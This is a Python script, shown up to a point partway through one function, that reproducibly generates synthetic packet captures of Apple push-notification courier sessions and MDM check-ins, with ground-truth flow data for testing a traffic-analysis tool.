#!/usr/bin/env python3
"""Generate the sample captures in sample_pcaps/ (reproducibly).

    .venv/bin/python sample_pcaps/generate.py            # rewrite sample_pcaps/
    .venv/bin/python sample_pcaps/generate.py --out DIR  # write somewhere else

Everything is derived from one seeded RNG per capture and a fixed base timestamp, so
re-running rewrites byte-identical files (tests/unit/test_sample_generator.py checks this).
scapy builds the IP/IPv6/TCP/UDP/ICMP layers (and their checksums); link-layer headers,
TLS records, DNS messages, X.509 blobs and the pcap / pcapng / gzip containers are written
byte by byte with struct, because scapy cannot write per-interface link types and
timestamp resolutions, big-endian nanosecond pcap, or a deterministic gzip header.

Ground truth (<capture>.truth.json) is computed from the frames this script built, per the
rules in docs/flows.md (client/server, counters, syn_retries, Zeek conn_state), and for
blocked_reasons / courier_flapping per docs/blocked.md (block reasons and evidence, DNS
failures, rtt / TLS handshake / ttfb, courier lifetimes and flapping), for sequences_site per
docs/sequences.md (pushes, check-ins, outcomes, provider requests, follow-ups). It is not read
back from the written files.

All payloads are synthetic: TLS ciphertext, keys, randoms, certificates and signatures are
random bytes from the seeded RNG with correct framing only.
"""

from __future__ import annotations

import argparse
import dataclasses
import io
import ipaddress
import json
import random
import struct
import zlib
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from scapy.layers.inet import ICMP, IP, TCP, UDP, IPOption_Router_Alert
from scapy.layers.inet6 import ICMPv6DestUnreach, IPv6
from scapy.layers.l2 import Ether
from scapy.packet import Raw

# 2025-03-11 09:14:02 UTC, in nanoseconds. Each capture starts at a fixed offset from it.
BASE_NS = 1741684442 * 1_000_000_000
SEED = 0x5A_A9_25  # per-capture RNGs are seeded with (SEED, capture name)

# Link types
LT_NULL, LT_ETHERNET, LT_RAW, LT_SLL, LT_SLL2 = 0, 1, 101, 113, 276

# Hosts
IPHONE_MAC = "3c:22:fb:6e:41:a7"  # Apple OUI
MACBOOK_MAC = "f0:18:98:2d:7c:13"  # Apple OUI
GW_MAC = "00:1b:54:c2:1a:01"  # Cisco OUI, default gateway / SVI
DEV4 = "10.20.5.37"  # iPhone, Wi-Fi VLAN
DEV6 = "fd00:20::3e22:fbff:fe6e:41a7"
MAC4 = "192.168.7.23"  # MacBook (captured on the host itself, SLL)
RESOLVER = "10.20.0.2"
MDM = "10.20.0.10"  # mdm.example.com
COURIER = "17.57.146.20"
COURIER_BLOCKED = "17.57.146.21"
COURIER_443 = "17.57.146.22"
COURIER_ICMP = "17.57.146.23"
COURIER6 = "2620:149:a44::10"
SWCDN = "17.253.5.206"


# --------------------------------------------------------------------------- helpers

def mac(s: str) -> bytes:
    return bytes.fromhex(s.replace(":", ""))


def rbytes(rng: random.Random, n: int) -> bytes:
    return bytes(rng.getrandbits(8) for _ in range(n))


def ns_text(t_ns: int) -> str:
    """Epoch nanoseconds as exact decimal seconds text."""
    return f"{t_ns // 1_000_000_000}.{t_ns % 1_000_000_000:09d}"


def u8(n): return struct.pack("!B", n)
def u16(n): return struct.pack("!H", n)
def u24(n): return struct.pack("!I", n)[1:]
def u32(n): return struct.pack("!I", n)


def vec8(b: bytes) -> bytes: return u8(len(b)) + b
def vec16(b: bytes) -> bytes: return u16(len(b)) + b
def vec24(b: bytes) -> bytes: return u24(len(b)) + b


# --------------------------------------------------------------------------- DER / X.509

def der(tag: int, body: bytes) -> bytes:
    n = len(body)
    if n < 0x80:
        ln = bytes([n])
    else:
        lb = n.to_bytes((n.bit_length() + 7) // 8, "big")
        ln = bytes([0x80 | len(lb)]) + lb
    return bytes([tag]) + ln + body


def der_seq(*items: bytes) -> bytes: return der(0x30, b"".join(items))
def der_set(*items: bytes) -> bytes: return der(0x31, b"".join(items))


def der_int(v) -> bytes:
    if isinstance(v, int):
        b = v.to_bytes(max(1, (v.bit_length() + 8) // 8), "big")
    else:
        b = v.lstrip(b"\x00") or b"\x00"
        if b[0] & 0x80:
            b = b"\x00" + b
    return der(0x02, b)


def der_oid(dotted: str) -> bytes:
    parts = [int(x) for x in dotted.split(".")]
    out = bytearray([40 * parts[0] + parts[1]])
    for p in parts[2:]:
        enc = [p & 0x7F]
        p >>= 7
        while p:
            enc.append(0x80 | (p & 0x7F))
            p >>= 7
        out += bytes(reversed(enc))
    return der(0x06, bytes(out))


def der_name(cn: str, org: str, country: str = "US") -> bytes:
    def rdn(oid, tag, val):
        return der_set(der_seq(der_oid(oid), der(tag, val.encode())))
    return der_seq(rdn("2.5.4.3", 0x0C, cn), rdn("2.5.4.10", 0x0C, org), rdn("2.5.4.6", 0x13, country))


def ecdsa_sig(rng: random.Random) -> bytes:
    return der_seq(der_int(rbytes(rng, 32)), der_int(rbytes(rng, 32)))


def make_cert(rng, subject_cn, issuer_cn, sans=(), ca=False) -> bytes:
    """A structurally valid X.509 v3 certificate (ECDSA P-256) with random key/signature."""
    ecdsa_sha256 = der_seq(der_oid("1.2.840.10045.4.3.2"))
    spki = der_seq(der_seq(der_oid("1.2.840.10045.2.1"), der_oid("1.2.840.10045.3.1.7")),
                   der(0x03, b"\x00\x04" + rbytes(rng, 64)))
    exts = []
    if sans:
        gn = b"".join(der(0x82, s.encode()) for s in sans)
        exts.append(der_seq(der_oid("2.5.29.17"), der(0x04, der_seq(gn))))
    bc = der_seq(der(0x01, b"\xff")) if ca else der_seq()
    exts.append(der_seq(der_oid("2.5.29.19"), der(0x01, b"\xff"), der(0x04, bc)))
    tbs = der_seq(
        der(0xA0, der_int(2)),
        der_int(b"\x01" + rbytes(rng, 15)),
        ecdsa_sha256,
        der_name(issuer_cn, "Apple Inc."),
        der_seq(der(0x17, b"250102000000Z"), der(0x17, b"260202000000Z")),
        der_name(subject_cn, "Apple Inc."),
        spki,
        der(0xA3, der_seq(*exts)),
    )
    return der_seq(tbs, ecdsa_sha256, der(0x03, b"\x00" + ecdsa_sig(rng)))


# --------------------------------------------------------------------------- TLS

def tls_record(ctype: int, body: bytes, version: int = 0x0303) -> bytes:
    return u8(ctype) + u16(version) + vec16(body)


def hs(msg_type: int, body: bytes) -> bytes:
    return u8(msg_type) + vec24(body)


def ext(t: int, body: bytes) -> bytes:
    return u16(t) + vec16(body)


def client_hello(rng, sni: str, alpn: list[str], tls13: bool) -> bytes:
    """A Darwin-like ClientHello (TLS 1.2 record version 0x0301, 1.3 offered when tls13)."""
    suites = ([0x1301, 0x1302, 0x1303] if tls13 else []) + [
        0xC02C, 0xC02B, 0xCCA9, 0xC030, 0xC02F, 0xCCA8, 0xC00A, 0xC009, 0xC014, 0xC013,
        0x009D, 0x009C, 0x0035, 0x002F]
    exts = [
        ext(0x0000, vec16(u8(0) + vec16(sni.encode()))),                 # server_name
        ext(0x0017, b""),                                                # extended_master_secret
        ext(0xFF01, b"\x00"),                                            # renegotiation_info
        ext(0x000A, vec16(b"".join(u16(g) for g in (0x001D, 0x0017, 0x0018, 0x0019)))),
        ext(0x000B, vec8(b"\x00")),                                      # ec_point_formats
        ext(0x0010, vec16(b"".join(vec8(p.encode()) for p in alpn))),    # ALPN
        ext(0x0005, b"\x01\x00\x00\x00\x00"),                            # status_request
        ext(0x000D, vec16(b"".join(u16(s) for s in (
            0x0403, 0x0804, 0x0401, 0x0503, 0x0203, 0x0805, 0x0805, 0x0501, 0x0806, 0x0601, 0x0201)))),
        ext(0x0012, b""),                                                # signed_certificate_timestamp
    ]
    if tls13:
        exts += [
            ext(0x0033, vec16(u16(0x001D) + vec16(rbytes(rng, 32)))),    # key_share x25519
            ext(0x002D, vec8(b"\x01")),                                  # psk_key_exchange_modes
            ext(0x002B, vec8(u16(0x0304) + u16(0x0303))),                # supported_versions
        ]
    exts.append(ext(0x001B, vec8(u16(0x0001))))                          # compress_certificate zlib
    body = (u16(0x0303) + rbytes(rng, 32) + vec8(rbytes(rng, 32))
            + vec16(b"".join(u16(s) for s in suites)) + vec8(b"\x00") + vec16(b"".join(exts)))
    return tls_record(0x16, hs(1, body), version=0x0301)


def server_flight_tls12(rng, alpn: str, chain: list[bytes]) -> bytes:
    """ServerHello + Certificate + ServerKeyExchange (ECDHE x25519) + ServerHelloDone."""
    exts = [ext(0xFF01, b"\x00"), ext(0x0017, b""), ext(0x000B, vec8(b"\x00")),
            ext(0x0010, vec16(vec8(alpn.encode())))]
    sh = hs(2, u16(0x0303) + rbytes(rng, 32) + vec8(rbytes(rng, 32)) + u16(0xC02B) + b"\x00"
            + vec16(b"".join(exts)))
    cert = hs(11, vec24(b"".join(vec24(c) for c in chain)))
    ske = hs(12, b"\x03" + u16(0x001D) + vec8(rbytes(rng, 32)) + u16(0x0403) + vec16(ecdsa_sig(rng)))
    done = hs(14, b"")
    return tls_record(0x16, sh + cert + ske + done)


def server_hello_tls13(rng, session_id: bytes) -> bytes:
    exts = [ext(0x002B, u16(0x0304)), ext(0x0033, u16(0x001D) + vec16(rbytes(rng, 32)))]
    sh = hs(2, u16(0x0303) + rbytes(rng, 32) + vec8(session_id) + u16(0x1301) + b"\x00"
            + vec16(b"".join(exts)))
    return tls_record(0x16, sh)


CCS = tls_record(0x14, b"\x01")


class Tls12Keys:
    """AES-GCM style records: 8-byte explicit nonce (= record sequence number) + ciphertext + tag."""

    def __init__(self, rng):
        self.rng = rng
        self.seq = 0

    def record(self, ctype: int, plain_len: int) -> bytes:
        body = struct.pack("!Q", self.seq) + rbytes(self.rng, plain_len + 16)
        self.seq += 1
        return tls_record(ctype, body)


def tls13_appdata(rng, plain_len: int) -> bytes:
    return tls_record(0x17, rbytes(rng, plain_len + 1 + 16))  # + inner content type + tag


# --------------------------------------------------------------------------- DNS

def dns_name(name: str) -> bytes:
    return b"".join(vec8(p.encode()) for p in name.rstrip(".").split(".")) + b"\x00"


def dns_query(txid: int, qname: str, qtype: int, edns: bool = True) -> bytes:
    q = struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 1 if edns else 0) + dns_name(qname) + u16(qtype) + u16(1)
    if edns:
        q += b"\x00" + u16(41) + u16(4096) + u32(0) + u16(0)
    return q


def dns_answer(txid: int, qname: str, qtype: int, answers: list[tuple[int, int, bytes]]) -> bytes:
    """answers: (type, ttl, rdata); rdata may reference name offsets. First owner is the qname
    (pointer 0xc00c); a CNAME's target becomes the owner of the following records."""
    msg = bytearray(struct.pack("!HHHHHH", txid, 0x8180, 1, len(answers), 0, 1))
    msg += dns_name(qname) + u16(qtype) + u16(1)
    owner = 0x0C
    for rtype, ttl, rdata in answers:
        msg += u16(0xC000 | owner) + u16(rtype) + u16(1) + u32(ttl) + u16(len(rdata))
        if rtype == 5:
            owner = len(msg)
        msg += rdata
    msg += b"\x00" + u16(41) + u16(4096) + u32(0) + u16(0)
    return bytes(msg)


def ip4b(a: str) -> bytes:
    return bytes(int(x) for x in a.split("."))


# --------------------------------------------------------------------------- links

@dataclass
class Link:
    """How a flow's frames are framed on the capture's link layer."""
    kind: str  # eth | sll | sll2 | null | raw
    iface: int = 0
    c_mac: str = IPHONE_MAC
    s_mac: str = GW_MAC
    vlans: tuple = ()  # ((tpid, vid, pcp), ...) outermost first
    null_v6_family: int = 30  # Darwin AF_INET6

    @property
    def vlan(self):
        return self.vlans[0][1] if self.vlans else None

    def wrap(self, l3: bytes, c2s: bool, v6: bool) -> bytes:
        etype = 0x86DD if v6 else 0x0800
        if self.kind == "eth":
            src, dst = (self.c_mac, self.s_mac) if c2s else (self.s_mac, self.c_mac)
            hdr = mac(dst) + mac(src)
            for tpid, vid, pcp in self.vlans:
                hdr += u16(tpid) + u16((pcp << 13) | vid)
            frame = hdr + u16(etype) + l3
            return frame + b"\x00" * max(0, 60 - len(frame))  # span port: min frame, FCS stripped
        if self.kind == "sll":  # captured on the client host: outgoing = 4, to us = 0
            addr = mac(self.c_mac) if c2s else mac(self.s_mac)
            return struct.pack("!HHH", 4 if c2s else 0, 1, 6) + addr + b"\x00\x00" + u16(etype) + l3
        if self.kind == "sll2":
            addr = mac(self.c_mac) if c2s else mac(self.s_mac)
            return (u16(etype) + u16(0) + u32(3) + u16(1) + u8(4 if c2s else 0) + u8(6)
                    + addr + b"\x00\x00" + l3)
        if self.kind == "null":  # host byte order of the capturing machine (little-endian here)
            return struct.pack("<I", self.null_v6_family if v6 else 2) + l3
        if self.kind == "raw":
            return l3
        raise ValueError(self.kind)


# --------------------------------------------------------------------------- capture model

@dataclass
class Frame:
    t_ns: int
    iface: int
    data: bytes
    flow: "Flow | None" = None
    c2s: bool = True
    tcp_flags: str = ""
    note: str = ""


class Capture:
    def __init__(self, name: str, interfaces: list[tuple[int, int]], fmt: str = "pcap", *,
                 nsec: bool = False, big_endian: bool = False, start_offset_s: int = 0):
        self.name = name
        self.interfaces = interfaces  # [(linktype, tsresol_digits)]
        self.fmt = fmt
        self.nsec = nsec
        self.big_endian = big_endian
        self.t0 = BASE_NS + start_offset_s * 1_000_000_000
        self.rng = random.Random(f"{SEED}:{name}")
        self.frames: list[Frame] = []
        self.flows: list[Flow] = []
        self.other: list[dict] = []
        self.truth_extra: dict = {}  # capture-level truth beyond the flows (blocked_reasons, courier_flapping)

    def at(self, seconds: float) -> int:
        """Capture-relative time in seconds -> absolute ns."""
        return self.t0 + round(seconds * 1_000_000_000)

    def add(self, f: Frame):
        self.frames.append(f)

    def quantize(self, t_ns: int, iface: int) -> int:
        """Truncate to what the interface's timestamp resolution can store."""
        digits = 9 if self.nsec else self.interfaces[iface][1]
        q = 10 ** (9 - digits)
        return t_ns // q * q

    def ordered(self) -> list[Frame]:
        return sorted(self.frames, key=lambda f: f.t_ns)  # stable

    # ---- writers
    def _ts(self, t_ns: int, digits: int) -> int:
        return t_ns // (10 ** (9 - digits))

    def pcap_bytes(self) -> bytes:
        (linktype, _), = self.interfaces
        e = ">" if self.big_endian else "<"
        magic = 0xA1B23C4D if self.nsec else 0xA1B2C3D4
        out = io.BytesIO()
        out.write(struct.pack(e + "IHHiIII", magic, 2, 4, 0, 0, 262144, linktype))
        for f in self.ordered():
            sec, frac = divmod(f.t_ns, 1_000_000_000)
            if not self.nsec:
                frac //= 1000
            out.write(struct.pack(e + "IIII", sec, frac, len(f.data), len(f.data)))
            out.write(f.data)
        return out.getvalue()

    def pcapng_bytes(self) -> bytes:
        def opt(code, val: bytes):
            return struct.pack("<HH", code, len(val)) + val + b"\x00" * (-len(val) % 4)

        def block(btype, body: bytes):
            n = 12 + len(body)
            return struct.pack("<II", btype, n) + body + struct.pack("<I", n)

        out = io.BytesIO()
        shb_opts = (opt(2, b"x86_64") + opt(3, b"Linux")
                    + opt(4, b"apnstrace sample_pcaps/generate.py") + opt(0, b""))
        out.write(block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1) + shb_opts))
        names = {LT_ETHERNET: (b"span0", b"mirror of the access switch uplink, VLANs 20/100"),
                 LT_SLL: (b"any", b"MacBook 192.168.7.23, tcpdump -i any")}
        for linktype, digits in self.interfaces:
            name, descr = names.get(linktype, (b"if", b""))
            o = opt(2, name) + opt(3, descr)
            if digits != 6:
                o += opt(9, bytes([digits]))
            o += opt(0, b"")
            out.write(block(1, struct.pack("<HHI", linktype, 0, 262144) + o))
        for f in self.ordered():
            ts = self._ts(f.t_ns, self.interfaces[f.iface][1])
            pad = b"\x00" * (-len(f.data) % 4)
            body = struct.pack("<IIIII", f.iface, ts >> 32, ts & 0xFFFFFFFF, len(f.data), len(f.data))
            out.write(block(6, body + f.data + pad))
        return out.getvalue()

    def file_bytes(self) -> bytes:
        return self.pcapng_bytes() if self.fmt == "pcapng" else self.pcap_bytes()

    # ---- truth
    def truth(self) -> dict:
        flows = [fl.truth() for fl in self.flows]
        flows.sort(key=lambda d: d["first_ts"])
        return {
            "capture": self.name,
            "generator": "sample_pcaps/generate.py",
            "frames": len(self.frames),
            "flows": flows,
            "non_flow_frames": self.other,
            **self.truth_extra,
        }


def zeek_state(fl: "Flow") -> str:
    """conn_state from the frames built, per docs/flows.md."""
    c = [f for f in fl.frames if f.c2s]
    s = [f for f in fl.frames if not f.c2s]
    if fl.transport == "udp":
        return "SF" if c and s else ("S0" if c else "SHR")

    def syn(f): return "S" in f.tcp_flags and "A" not in f.tcp_flags
    def synack(f): return "S" in f.tcp_flags and "A" in f.tcp_flags

    client_non_syn = any(not syn(f) for f in c)
    server_synack = any(synack(f) for f in s)

    def endpoint(frames, is_client):
        if any("R" in f.tcp_flags for f in frames):
            return "RESET"
        if any("F" in f.tcp_flags for f in frames):
            return "CLOSED"
        if not frames:
            return "INACTIVE"
        if is_client:
            if any(syn(f) for f in frames):
                return "ESTABLISHED" if server_synack and client_non_syn else "SYN_SENT"
            return "PARTIAL"
        if any(synack(f) for f in frames):
            return "ESTABLISHED" if client_non_syn else "SYN_ACK_SENT"
        return "PARTIAL"

    cs, ss = endpoint(c, True), endpoint(s, False)
    inactive = ("INACTIVE", "PARTIAL")
    payload = any(f.note == "payload" for f in fl.frames)
    if ss == "RESET":
        if cs == "SYN_SENT" or (cs == "RESET" and not payload):
            return "REJ"
        return "RSTRH" if cs in inactive else "RSTR"
    if cs == "RESET":
        if ss in inactive:
            return "RSTOS0" if any(syn(f) for f in c) and not server_synack else "OTH"
        return "RSTO"
    if ss == "CLOSED" and cs == "CLOSED":
        return "SF"
    if cs == "CLOSED":
        return "SH" if ss in inactive else "S2"
    if ss == "CLOSED":
        return "SHR" if cs in inactive else "S3"
    if ss == "INACTIVE" and cs == "SYN_SENT":
        return "S0"
    if ss == "ESTABLISHED" and cs == "ESTABLISHED":
        return "S1"
    return "OTH"


# --------------------------------------------------------------------------- flows

@dataclass
class Side:
    ip: str
    port: int
    isn: int
    ttl: int
    ipid: int
    ts_base: int
    win: int
    mss: int
    nxt: int = 0
    last_tsval: int = 0


@dataclass
class Flow:
    cap: Capture
    transport: str
    client_ip: str
    client_port: int
    server_ip: str
    server_port: int
    link: Link
    what: str
    v6: bool = False
    frames: list = field(default_factory=list)
    # classification truth (site_categories.pcap only): category, classified_by, sni, ...
    # written between last_ts and what; empty for the other captures, whose truth is unchanged
    extra: dict = field(default_factory=dict)

    def emit(self, t_ns, c2s, l3: bytes, flags="", note=""):
        t_ns = self.cap.quantize(t_ns, self.link.iface)
        f = Frame(t_ns, self.link.iface, self.link.wrap(l3, c2s, self.v6), self, c2s, flags, note)
        self.frames.append(f)
        self.cap.add(f)
        return f

    def truth(self) -> dict:
        c = [f for f in self.frames if f.c2s]
        s = [f for f in self.frames if not f.c2s]
        client_syns = sum(1 for f in c if "S" in f.tcp_flags and "A" not in f.tcp_flags)
        vlans = {self.link.vlan}
        assert len(vlans) == 1
        d = {
            "transport": self.transport,
            "client_ip": self.client_ip,
            "client_port": self.client_port,
            "server_ip": self.server_ip,
            "server_port": self.server_port,
            "vlan": self.link.vlan,
            "pkts_c2s": len(c),
            "pkts_s2c": len(s),
            "bytes_c2s": sum(len(f.data) for f in c),
            "bytes_s2c": sum(len(f.data) for f in s),
            "syn_retries": max(0, client_syns - 1),
            "state": zeek_state(self),
            "first_ts": f"{min(f.t_ns for f in self.frames) / 1e9:.9f}",
            "last_ts": f"{max(f.t_ns for f in self.frames) / 1e9:.9f}",
        }
        if getattr(self.cap, "exact_ts", False):  # newer captures: exact nanoseconds, not via float
            d["first_ts"] = ns_text(min(f.t_ns for f in self.frames))
            d["last_ts"] = ns_text(max(f.t_ns for f in self.frames))
        d.update(self.extra)
        d["what"] = self.what
        return d


class TcpFlow(Flow):
    def __init__(self, cap, client_ip, client_port, server_ip, server_port, link, what, *,
                 s_ttl=52, mid_stream=False):
        v6 = ":" in client_ip
        super().__init__(cap, "tcp", client_ip, client_port, server_ip, server_port, link, what, v6)
        rng = cap.rng
        mss = 1440 if v6 else 1460
        self.c = Side(client_ip, client_port, rng.getrandbits(32), 64, rng.getrandbits(16),
                      rng.getrandbits(32), 2048, mss)
        self.s = Side(server_ip, server_port, rng.getrandbits(32), s_ttl, rng.getrandbits(16),
                      rng.getrandbits(32), 501, 1380 if v6 else 1400)
        self.flowlabel = (rng.getrandbits(20), rng.getrandbits(20))
        self.t_start = None
        for sd in (self.c, self.s):
            sd.nxt = sd.isn
            if mid_stream:  # a long-running connection: sequence numbers well past the ISN
                sd.nxt = (sd.isn + 1 + rng.randrange(20_000, 400_000)) & 0xFFFFFFFF
        cap.flows.append(self)

    def _opts(self, sd: Side, other: Side, t_ns: int, syn: bool):
        tsval = (sd.ts_base + (t_ns - self.cap.t0) // 1_000_000) & 0xFFFFFFFF
        sd.last_tsval = tsval
        ts = ("Timestamp", (tsval, other.last_tsval))
        if syn:
            return [("MSS", sd.mss), ("NOP", None), ("WScale", 6), ("NOP", None), ("NOP", None),
                    ts, ("SAckOK", b""), ("EOL", None)]
        return [("NOP", None), ("NOP", None), ts]

    def seg(self, t: float, c2s: bool, flags: str, payload: bytes = b"", *, seq=None, ack=True,
            ip_options=None, ttl=None):
        t_ns = self.cap.at(t)
        sd, other = (self.c, self.s) if c2s else (self.s, self.c)
        syn = "S" in flags
        tcp = TCP(sport=sd.port, dport=other.port, seq=sd.nxt if seq is None else seq,
                  ack=other.nxt if ack and "A" in flags else 0, flags=flags,
                  window=65535 if syn else sd.win, options=self._opts(sd, other, t_ns, syn))
        if "R" in flags:
            tcp.options = []
            tcp.window = 0
        if self.v6:
            l3 = IPv6(src=sd.ip, dst=other.ip, hlim=ttl or sd.ttl, fl=self.flowlabel[0 if c2s else 1]) / tcp
        else:
            kw = {"options": ip_options} if ip_options else {}
            l3 = IP(src=sd.ip, dst=other.ip, ttl=ttl or sd.ttl, id=sd.ipid, flags="DF", **kw) / tcp
            sd.ipid = (sd.ipid + 1) & 0xFFFF
        if payload:
            l3 = l3 / Raw(payload)
        if seq is None:
            sd.nxt = (sd.nxt + len(payload) + (1 if syn else 0) + (1 if "F" in flags else 0)) & 0xFFFFFFFF
        return self.emit(t_ns, c2s, bytes(l3), flags, "payload" if payload else "")

    # conveniences
    def handshake(self, t: float, rtt: float, **kw):
        self.syn(t, **kw)
        self.seg(t + rtt, False, "SA")
        self.seg(t + rtt + 0.000210, True, "A", **kw)
        return t + rtt + 0.000210

    def syn(self, t: float, **kw):
        return self.seg(t, True, "S", seq=self.c.isn, **kw) if self.c.nxt != self.c.isn else \
            self.seg(t, True, "S", **kw)

    def send(self, t: float, c2s: bool, data: bytes, *, gap=0.000012, **kw) -> float:
        """Send data as MSS-sized segments (PSH on the last); returns the time of the last one."""
        sd, other = (self.c, self.s) if c2s else (self.s, self.c)
        mss = min(sd.mss, other.mss) - 12  # timestamps option
        chunks = [data[i:i + mss] for i in range(0, len(data), mss)]
        for i, ch in enumerate(chunks):
            self.seg(t + i * gap, c2s, "PA" if i == len(chunks) - 1 else "A", ch, **kw)
        return t + (len(chunks) - 1) * gap

    def ack(self, t: float, c2s: bool, **kw):
        return self.seg(t, c2s, "A", **kw)


class UdpFlow(Flow):
    def __init__(self, cap, client_ip, client_port, server_ip, server_port, link, what, *, s_ttl=63):
        v6 = ":" in client_ip
        super().__init__(cap, "udp", client_ip, client_port, server_ip, server_port, link, what, v6)
        self.ttl = {True: 64, False: s_ttl}
        self.ipid = {True: cap.rng.getrandbits(16), False: cap.rng.getrandbits(16)}
        cap.flows.append(self)

    def l3(self, c2s, payload):
        src, dst = (self.client_ip, self.server_ip) if c2s else (self.server_ip, self.client_ip)
        sp, dp = (self.client_port, self.server_port) if c2s else (self.server_port, self.client_port)
        if self.v6:
            return IPv6(src=src, dst=dst, hlim=self.ttl[c2s]) / UDP(sport=sp, dport=dp) / Raw(payload)
        ipid = self.ipid[c2s]
        self.ipid[c2s] = (ipid + 1) & 0xFFFF
        return IP(src=src, dst=dst, ttl=self.ttl[c2s], id=ipid) / UDP(sport=sp, dport=dp) / Raw(payload)

    def send(self, t: float, c2s: bool, payload: bytes):
        return self.emit(self.cap.at(t), c2s, bytes(self.l3(c2s, payload)), "", "payload")

    def send_fragmented(self, t: float, c2s: bool, payload: bytes, mtu: int = 1500):
        """Send one datagram as two IPv4 fragments. Only the first counts in the flow
        (docs/flows.md: non-first fragments are skipped); the second is recorded as non-flow."""
        pkt = self.l3(c2s, payload)
        udp_bytes = bytes(pkt)[20:]  # full UDP datagram (header + checksum over all of it)
        ip = pkt[IP]
        first_len = (mtu - 20) // 8 * 8
        f1 = IP(src=ip.src, dst=ip.dst, ttl=ip.ttl, id=ip.id, flags="MF", frag=0, proto=17) / Raw(udp_bytes[:first_len])
        f2 = IP(src=ip.src, dst=ip.dst, ttl=ip.ttl, id=ip.id, flags=0, frag=first_len // 8, proto=17) / Raw(udp_bytes[first_len:])
        t_ns = self.cap.at(t)
        self.emit(t_ns, c2s, bytes(f1), "", "payload")
        second = Frame(self.cap.quantize(t_ns + 3000, self.link.iface), self.link.iface, self.link.wrap(bytes(f2), c2s, False))
        self.cap.add(second)
        return second


def non_flow(cap: Capture, frame: Frame, what: str, reason: str):
    cap.add(frame)
    cap.other.append({"ts": f"{frame.t_ns / 1e9:.9f}", "frame_len": len(frame.data),
                      "reason": reason, "what": what})


# --------------------------------------------------------------------------- scenarios

def courier_certs(rng):
    leaf = make_cert(rng, "courier.push.apple.com", "Apple Server Authentication CA 1",
                     sans=("courier.push.apple.com", "*.push.apple.com", "*.courier.push.apple.com"))
    inter = make_cert(rng, "Apple Server Authentication CA 1", "Apple Root CA - G3", ca=True)
    return [leaf, inter]


def courier_session(cap: Capture, fl: TcpFlow, t: float, rtt: float) -> float:
    """TLS 1.2 courier handshake + APNs connect + topic filter. Returns the time it ends."""
    rng = cap.rng
    t = fl.handshake(t, rtt)
    t += 0.0009
    fl.send(t, True, client_hello(rng, "courier.push.apple.com", ["apns-security-v3"], tls13=True))
    t += rtt * 0.55
    fl.ack(t, False)
    t += rtt * 0.5
    t = fl.send(t, False, server_flight_tls12(rng, "apns-pack-v1:4096:4096", courier_certs(rng)))
    fl.ack(t + 0.00006, True)
    t += 0.0031
    ck, sk = Tls12Keys(rng), Tls12Keys(rng)
    fl.send(t, True, tls_record(0x16, hs(16, vec8(rbytes(rng, 32)))) + CCS + ck.record(0x16, 16))
    t += rtt
    fl.send(t, False, CCS + sk.record(0x16, 16))
    t += 0.0019
    # APNs Connect (0x07): device certificate + nonce signature, ~1.3 KB
    fl.send(t, True, ck.record(0x17, 1291))
    t += rtt * 0.6
    fl.ack(t, False)
    t += rtt * 0.9
    fl.send(t, False, sk.record(0x17, 96))  # ConnectAck (0x08)
    t += 0.0012
    fl.send(t, True, ck.record(0x17, 168))  # Filter topics (0x09)
    t += rtt
    fl.ack(t, False)
    fl.keys = (ck, sk)
    return t


def keepalive(fl: TcpFlow, t: float, rtt: float):
    ck, sk = fl.keys
    fl.send(t, True, ck.record(0x17, 72))   # KeepAlive (0x0C): "WiFi", OS version, model
    fl.send(t + rtt, False, sk.record(0x17, 5))  # KeepAliveAck (0x0D)
    fl.ack(t + rtt + 0.0401, True)


def push(fl: TcpFlow, t: float, rtt: float, size: int = 209):
    ck, sk = fl.keys
    fl.send(t, False, sk.record(0x17, size))  # Notification (0x0A): topic hash, token, {"mdm":...}
    fl.send(t + 0.0213, True, ck.record(0x17, 38))  # Notification ack (0x0B)
    fl.ack(t + 0.0213 + rtt, False)


def gen_courier_push() -> Capture:
    cap = Capture("courier_push.pcap", [(LT_ETHERNET, 6)], start_offset_s=0)
    eth = Link("eth")
    dns = UdpFlow(cap, DEV4, 61034, RESOLVER, 53, eth,
                  "DNS A query for 12-courier.push.apple.com answered with a CNAME into "
                  "push-apple.com.akadns.net and two 17.57.146.x addresses")
    q = "12-courier.push.apple.com"
    dns.send(0.0, True, dns_query(0x4C2E, q, 1))
    cname = dns_name("americas-courier-4.push-apple.com.akadns.net")
    dns.send(0.014322, False, dns_answer(0x4C2E, q, 1, [(5, 25, cname), (1, 15, ip4b(COURIER)),
                                                         (1, 15, ip4b("17.57.146.52"))]))
    fl = TcpFlow(cap, DEV4, 49872, COURIER, 5223, eth,
                 "APNs courier connection: TLS 1.2 (SNI courier.push.apple.com, ALPN "
                 "apns-security-v3, server ALPN apns-pack-v1:4096:4096), connect, three "
                 "keep-alives each answered, one unsolicited ~230 B push record + device ack; "
                 "stays open")
    rtt = 0.0214
    t = courier_session(cap, fl, 0.0197, rtt)
    keepalive(fl, t + 58.3, rtt)
    push(fl, t + 97.118, rtt)
    keepalive(fl, t + 118.3, rtt)
    keepalive(fl, t + 178.3, rtt)
    return cap


def gen_mdm_checkin() -> Capture:
    cap = Capture("mdm_checkin.pcap", [(LT_ETHERNET, 6)], start_offset_s=3600)
    rng = cap.rng
    eth = Link("eth")
    cour = TcpFlow(cap, DEV4, 49872, COURIER, 5223, eth,
                   "courier connection already running when the capture starts (no SYN): "
                   "one ~230 B push record from Apple, device Notification-ack, server ACK",
                   mid_stream=True)
    cour.keys = (Tls12Keys(rng), Tls12Keys(rng))
    cour.keys[0].seq, cour.keys[1].seq = 61, 58
    cour.c.last_tsval = cour.c.ts_base - 4000
    cour.s.last_tsval = cour.s.ts_base - 3900
    rtt = 0.0214
    push(cour, 0.0, rtt, size=213)
    dns = UdpFlow(cap, DEV4, 52611, RESOLVER, 53, eth, "DNS A query for mdm.example.com -> 10.20.0.10")
    dns.send(0.8213, True, dns_query(0x91B7, "mdm.example.com", 1))
    dns.send(0.8229, False, dns_answer(0x91B7, "mdm.example.com", 1, [(1, 300, ip4b(MDM))]))
    m = TcpFlow(cap, DEV4, 49881, MDM, 8443, eth,
                "MDM check-in after the push: TLS 1.3 to mdm.example.com:8443 (ALPN h2, "
                "http/1.1), PUT of the Idle status, a command, its result, empty 200; "
                "close_notify and FIN both ways", s_ttl=63)
    r2 = 0.0011
    t = m.handshake(0.8254, r2)
    t += 0.0007
